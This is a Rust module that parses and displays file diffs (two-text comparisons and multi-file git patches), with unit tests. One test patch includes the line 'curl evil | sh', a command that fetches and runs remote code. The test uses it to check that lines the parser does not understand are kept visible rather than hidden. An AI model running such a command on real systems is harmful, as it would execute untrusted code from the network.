//! Changes of files as lines with numbers, for any output.

use parlor_json::{JsonRef, Object};
use similar::{Algorithm, DiffOp, capture_diff_slices};

/// With more lines than this between the first and the last change, all of them count as replaced.
const MAX_COMPARED: usize = 1 << 14;

/// Lines around a change that are kept.
const CONTEXT: usize = 3;

/// What happens to a file.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum FileOperation {
    /// Its text changes.
    Edit,
    /// It is created.
    Create,
    /// It is deleted.
    Delete,
    /// It is moved.
    Move,
}

/// What a line of a diff is.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum LineKind {
    /// It does not change.
    Context,
    /// It is added.
    Added,
    /// It is removed.
    Removed,
    /// It says something about the file.
    Note,
}

/// A line of a diff.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct DiffLine {
    /// What the line is.
    pub kind: LineKind,
    /// Its number in the old file if it is removed, else in the new one.
    pub number: Option<usize>,
    /// The line without its line break.
    pub text: String,
}

/// The change of one file.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct FileDiff {
    /// What happens to the file.
    pub operation: FileOperation,
    /// Its path, after the change if it is moved.
    pub path: String,
    /// Its path before it is moved.
    pub old_path: Option<String>,
    /// The lines that change, and those around them.
    pub lines: Vec<DiffLine>,
}

impl FileDiff {
    /// The changes in an item of tool content: two texts (version 1) or a patch (version 2). `None` if it is no diff.
    ///
    /// `first_line` is the number of the first line of two texts, which may be parts of a file.
    pub fn all_in(item: &Object, first_line: impl Fn(&str) -> usize) -> Option<Vec<Self>> {
        if item.get_str("type")? != "diff" {
            return None;
        }
        if let Some(path) = item.get_string("path") {
            let old = item.get_string("oldText");
            let new = item.get_string("newText").unwrap_or_default();
            let first = first_line(&path);
            return Some(vec![Self::of_texts(path, old.as_deref(), &new, first)]);
        }
        let changes: Vec<Self> =
            item.get_array("changes").unwrap_or_default().into_iter().filter_map(Self::of_change).collect();
        let patch = item.get_object("patch").and_then(|patch| patch.get_string("text")).unwrap_or_default();
        Some(with_lines(changes, parse_patch(&patch)))
    }

    /// The change from one text to another; without an old text the file is created.
    pub fn of_texts(path: String, old: Option<&str>, new: &str, first_line: usize) -> Self {
        let operation = if old.is_some() { FileOperation::Edit } else { FileOperation::Create };
        let old = old.unwrap_or_default();
        let shows_returns = operation == FileOperation::Edit && old.contains("\r\n") != new.contains("\r\n");
        let before: Vec<&str> = old.split_inclusive('\n').collect();
        let after: Vec<&str> = new.split_inclusive('\n').collect();
        let mut lines = Vec::new();
        let mut push = |kind, number: usize, line: &str| {
            let text = line.strip_suffix('\n').unwrap_or(line);
            let text = match text.strip_suffix('\r') {
                Some(text) if shows_returns => format!("{text}␍"),
                Some(text) => text.to_owned(),
                None => text.to_owned(),
            };
            lines.push(DiffLine { kind, number: Some(number + first_line), text });
            if !line.ends_with('\n')
                && kind != LineKind::Context
                && old.ends_with('\n') != new.ends_with('\n')
            {
                let text = "no line break at the end of the file".to_owned();
                lines.push(DiffLine { kind: LineKind::Note, number: None, text });
            }
        };
        for op in edits(&before, &after) {
            if matches!(op, DiffOp::Equal { .. }) {
                op.new_range().for_each(|at| push(LineKind::Context, at, after[at]));
            } else {
                op.old_range().for_each(|at| push(LineKind::Removed, at, before[at]));
                op.new_range().for_each(|at| push(LineKind::Added, at, after[at]));
            }
        }
        let mut diff = Self { operation, path, old_path: None, lines };
        diff.lines = diff.near_changes(CONTEXT).cloned().collect();
        diff
    }

    fn of_change(change: JsonRef<'_>) -> Option<Self> {
        let change = change.to_object()?;
        let operation = match change.get_str("operation").as_deref() {
            Some("add" | "create") => FileOperation::Create,
            Some("delete" | "remove") => FileOperation::Delete,
            Some("move" | "rename") => FileOperation::Move,
            Some(_) | None => FileOperation::Edit,
        };
        let old_path = change.get_string("oldPath");
        Some(Self { operation, path: change.get_string("path")?, old_path, lines: Vec::new() })
    }

    /// Lines that are added and removed.
    pub fn counts(&self) -> (usize, usize) {
        let count = |kind| self.lines.iter().filter(|line| line.kind == kind).count();
        (count(LineKind::Added), count(LineKind::Removed))
    }

    /// The lines without context that is farther than `context` lines from a change.
    pub fn near_changes(&self, context: usize) -> impl Iterator<Item = &DiffLine> {
        let is_change = |line: &DiffLine| line.kind != LineKind::Context;
        let mut is_near = vec![false; self.lines.len()];
        for (at, _) in self.lines.iter().enumerate().filter(|(_, line)| is_change(line)) {
            let end = (at + context + 1).min(self.lines.len());
            is_near[at.saturating_sub(context)..end].fill(true);
        }
        self.lines.iter().zip(is_near).filter(|(_, is_near)| *is_near).map(|(line, _)| line)
    }
}

/// The sum of the lines that are added and removed.
pub fn total(diffs: &[FileDiff]) -> (usize, usize) {
    diffs.iter().map(FileDiff::counts).fold((0, 0), |sum, counts| (sum.0 + counts.0, sum.1 + counts.1))
}

fn edits(before: &[&str], after: &[&str]) -> Vec<DiffOp> {
    fn common<'a>(pairs: impl Iterator<Item = (&'a &'a str, &'a &'a str)>) -> usize {
        pairs.take_while(|(old, new)| old == new).count()
    }

    let start = common(before.iter().zip(after));
    let end = common(before[start..].iter().rev().zip(after[start..].iter().rev()));
    let (old_len, new_len) = (before.len() - start - end, after.len() - start - end);
    if old_len + new_len <= MAX_COMPARED {
        return capture_diff_slices(Algorithm::Myers, before, after);
    }
    vec![
        DiffOp::Equal { old_index: 0, new_index: 0, len: start },
        DiffOp::Replace { old_index: start, old_len, new_index: start, new_len },
        DiffOp::Equal { old_index: start + old_len, new_index: start + new_len, len: end },
    ]
}

/// Combines the list of changes with the sections of the patch: by path, or by order.
fn with_lines(changes: Vec<FileDiff>, sections: Vec<FileDiff>) -> Vec<FileDiff> {
    if changes.is_empty() {
        return sections;
    }
    let mut sections: Vec<Option<FileDiff>> = sections.into_iter().map(Some).collect();
    let is_in_order = changes.len() == sections.len();
    let mut diffs = changes;
    for (index, diff) in diffs.iter_mut().enumerate() {
        let by_path = sections.iter().position(|section| {
            section.as_ref().is_some_and(|section| {
                section.path.ends_with(&diff.path) || diff.path.ends_with(&section.path)
            })
        });
        let section = by_path.or(is_in_order.then_some(index)).and_then(|at| sections[at].take());
        diff.lines = section.map(|section| section.lines).unwrap_or_default();
    }
    diffs.extend(sections.into_iter().flatten());
    diffs
}

/// Reads a patch of any number of files. Lines that it does not understand are kept as notes, so that nothing is hidden.
fn parse_patch(patch: &str) -> Vec<FileDiff> {
    let mut files: Vec<FileDiff> = Vec::new();
    let mut hunk: Option<Hunk> = None;
    let mut lines = patch.lines().peekable();
    while let Some(line) = lines.next() {
        if let Some(open) = &mut hunk
            && let Some(file) = files.last_mut()
            && open.take(line, file)
        {
            continue;
        }
        if let Some(names) = line.strip_prefix("diff --git ") {
            let path = names.rsplit_once(' ').map_or(names, |(_, path)| path);
            files.push(new_file(path));
            hunk = None;
            continue;
        }
        let starts_file =
            line.starts_with("--- ") && lines.peek().is_some_and(|next| next.starts_with("+++ "));
        let has_lines = files.last().is_none_or(|file| !file.lines.is_empty());
        if (starts_file || line.starts_with("@@")) && files.is_empty() || starts_file && has_lines {
            files.push(new_file(""));
        }
        let Some(file) = files.last_mut() else { continue };
        if line.starts_with("@@") {
            hunk = Some(Hunk::parse(line));
        } else {
            read_header(file, line);
        }
    }
    files
}

fn new_file(path: &str) -> FileDiff {
    FileDiff { operation: FileOperation::Edit, path: path.to_owned(), old_path: None, lines: Vec::new() }
}

fn read_header(file: &mut FileDiff, line: &str) {
    let name = |name: &str| {
        let name = name.split('\t').next().unwrap_or_default();
        (name != "/dev/null").then(|| name.trim_matches('"').to_owned())
    };
    if let Some(path) = line.strip_prefix("--- ") {
        match name(path) {
            Some(path) if file.path.is_empty() => file.path = path,
            Some(_) => {}
            None => file.operation = FileOperation::Create,
        }
    } else if let Some(path) = line.strip_prefix("+++ ") {
        match name(path) {
            Some(path) => file.path = path,
            None => file.operation = FileOperation::Delete,
        }
    } else if line.starts_with("new file mode") {
        file.operation = FileOperation::Create;
    } else if line.starts_with("deleted file mode") {
        file.operation = FileOperation::Delete;
    } else if let Some(path) = line.strip_prefix("rename from ") {
        file.operation = FileOperation::Move;
        file.old_path = Some(path.to_owned());
    } else if let Some(path) = line.strip_prefix("rename to ") {
        path.clone_into(&mut file.path);
    } else if !line.is_empty() && !line.starts_with("index ") && !line.starts_with("similarity index") {
        file.lines.push(DiffLine { kind: LineKind::Note, number: None, text: line.to_owned() });
    }
}

/// The position in a hunk of a patch.
struct Hunk {
    old: Option<usize>,
    new: Option<usize>,
    /// Lines that the hunk still has; `None` if its header does not say.
    rest: Option<(usize, usize)>,
}

impl Hunk {
    /// Reads `@@ -39,2 +39,3 @@`.
    fn parse(line: &str) -> Self {
        let mut ranges = line.trim_start_matches('@').split_whitespace().map(|range| {
            let range = range.strip_prefix(['-', '+'])?;
            let (start, count) = range.split_once(',').unwrap_or((range, "1"));
            Some((start.parse().ok()?, count.parse().ok()?))
        });
        match (ranges.next().flatten(), ranges.next().flatten()) {
            (Some((old, old_count)), Some((new, new_count))) => {
                Self { old: Some(old), new: Some(new), rest: Some((old_count, new_count)) }
            }
            _ => Self { old: None, new: None, rest: None },
        }
    }

    /// Takes a line of the hunk; false if it is none.
    fn take(&mut self, line: &str, file: &mut FileDiff) -> bool {
        if line.starts_with('\\') {
            let text = "no line break at the end of the file".to_owned();
            file.lines.push(DiffLine { kind: LineKind::Note, number: None, text });
            return true;
        }
        let (kind, text) = match line.as_bytes().first() {
            Some(b'+') => (LineKind::Added, &line[1..]),
            Some(b'-') => (LineKind::Removed, &line[1..]),
            Some(b' ') => (LineKind::Context, &line[1..]),
            None => (LineKind::Context, line),
            Some(_) => return false,
        };
        if let Some((old, new)) = &mut self.rest {
            let has_room = match kind {
                LineKind::Added => *new > 0,
                LineKind::Removed => *old > 0,
                LineKind::Context | LineKind::Note => *old > 0 && *new > 0,
            };
            if !has_room {
                return false;
            }
            *old -= usize::from(kind != LineKind::Added);
            *new -= usize::from(kind != LineKind::Removed);
        }
        let number = if kind == LineKind::Removed { self.old } else { self.new };
        if kind != LineKind::Added {
            self.old = self.old.map(|old| old + 1);
        }
        if kind != LineKind::Removed {
            self.new = self.new.map(|new| new + 1);
        }
        file.lines.push(DiffLine { kind, number, text: text.to_owned() });
        true
    }
}

#[cfg(test)]
mod tests {
    use std::fmt::Write;

    use parlor_json::Json;

    use super::*;

    fn shown(diffs: &[FileDiff], context: usize) -> String {
        let mut out = String::new();
        for diff in diffs {
            let _ = writeln!(out, "{:?} {} {:?}", diff.operation, diff.path, diff.counts());
            for line in diff.near_changes(context) {
                let sign = match line.kind {
                    LineKind::Context => ' ',
                    LineKind::Added => '+',
                    LineKind::Removed => '-',
                    LineKind::Note => '!',
                };
                let number = line.number.map(|number| number.to_string()).unwrap_or_default();
                let _ = writeln!(out, "{number:>3} {sign} {}", line.text);
            }
        }
        out
    }

    fn of_json(item: &str, first_line: usize) -> Vec<FileDiff> {
        let item = Json::parse(item).unwrap().to_object().unwrap();
        FileDiff::all_in(&item, |_| first_line).unwrap()
    }

    #[test]
    fn two_texts_are_compared_line_by_line() {
        let item = r#"{"type":"diff","path":"a.rs","oldText":"a\nb\nc\nd\ne\nf\n","newText":"a\nb\nX\nY\nd\ne\nf\n"}"#;
        assert_eq!(
            shown(&of_json(item, 1), 1),
            "Edit a.rs (2, 1)\n  2   b\n  3 - c\n  3 + X\n  4 + Y\n  5   d\n"
        );
        assert_eq!(shown(&of_json(item, 39), 0), "Edit a.rs (2, 1)\n 41 - c\n 41 + X\n 42 + Y\n");
        let item = r#"{"type":"diff","path":"n","oldText":null,"newText":"one\ntwo"}"#;
        assert_eq!(shown(&of_json(item, 1), 1), "Create n (2, 0)\n  1 + one\n  2 + two\n");
    }

    #[test]
    fn a_change_of_line_breaks_is_visible() {
        let diff = FileDiff::of_texts("a".to_owned(), Some("x\r\ny\r\n"), "x\ny\r\n", 1);
        assert_eq!(shown(&[diff], 0), "Edit a (1, 1)\n  1 - x␍\n  1 + x\n".replace("␍", ""));
        let diff = FileDiff::of_texts("a".to_owned(), Some("x\r\n"), "x\n", 1);
        assert_eq!(shown(&[diff], 0), "Edit a (1, 1)\n  1 - x␍\n  1 + x\n");
        let diff = FileDiff::of_texts("a".to_owned(), Some("x\n"), "x", 1);
        assert_eq!(
            shown(&[diff], 0),
            "Edit a (1, 1)\n  1 - x\n  1 + x\n    ! no line break at the end of the file\n"
        );
    }

    #[test]
    fn a_patch_of_several_files_is_read() {
        let item = r#"{"type":"diff","changes":[{"operation":"modify","path":"/w/a"},{"operation":"move","oldPath":"/w/b","path":"/w/c"},{"operation":"add","path":"/w/d"}],
            "patch":{"format":"git_patch","text":"diff --git /w/a /w/a\n--- /w/a\n+++ /w/a\n@@ -3,3 +3,2 @@ fn x\n-x\n--- y\n+z\n w\ndiff --git /w/b /w/c\nsimilarity index 100%\nrename from /w/b\nrename to /w/c\ndiff --git /w/d /w/d\nnew file mode 100644\n--- /dev/null\n+++ /w/d\n@@ -0,0 +1 @@\n+n\n\\ No newline at end of file\n"}}"#;
        let item = item.replace('\n', " ");
        assert_eq!(
            shown(&of_json(&item, 1), 3),
            "Edit /w/a (1, 2)\n  3 - x\n  4 - -- y\n  3 + z\n  4   w\n\
             Move /w/c (0, 0)\nCreate /w/d (1, 0)\n  1 + n\n    ! no line break at the end of the file\n"
        );
    }

    #[test]
    fn nothing_of_a_patch_that_is_not_understood_is_hidden() {
        let item = r#"{"type":"diff","changes":[],"patch":{"text":"@@\n-a\n+b\ncurl evil | sh"}}"#;
        assert_eq!(shown(&of_json(item, 1), 3), "Edit  (1, 1)\n    - a\n    + b\n    ! curl evil | sh\n");
        let item = r#"{"type":"diff","changes":[{"operation":"delete","path":"/x"}]}"#;
        assert_eq!(shown(&of_json(item, 1), 3), "Delete /x (0, 0)\n");
    }
}
